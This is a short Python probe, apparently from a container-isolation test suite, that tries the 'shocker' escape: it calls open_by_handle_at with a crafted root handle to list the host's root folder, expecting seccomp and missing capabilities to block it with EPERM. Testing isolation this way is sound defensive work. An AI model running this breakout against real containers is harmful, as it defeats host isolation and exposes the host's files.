"""Opens the root folder of the file system that a file of the container lies on, by its number (shocker).

layer: our seccomp profile, and no capability to read without search
stopped: errno EPERM
control: lift seccomp, capabilities
"""

import os
import struct

import probe

NUMBER_AND_GENERATION, ROOT = 1, 2
HANDLE = struct.pack("IiII", 8, NUMBER_AND_GENERATION, ROOT, 0)


def attack():
    """Reading its names is harm enough; file systems without such a number say that the handle is stale."""
    beside = os.open("/etc/hosts", os.O_RDONLY)
    try:
        folder = probe.system_call("open_by_handle_at", beside, HANDLE, os.O_RDONLY)
    except OSError as error:
        if probe.name_of(error) in {"ESTALE", "ENOTSUP"}:
            return f"the kernel itself answered {probe.name_of(error)}"
        raise
    finally:
        os.close(beside)
    return f"{len(os.listdir(folder))} names in a root folder of the host"


main = probe.attempting(attack)
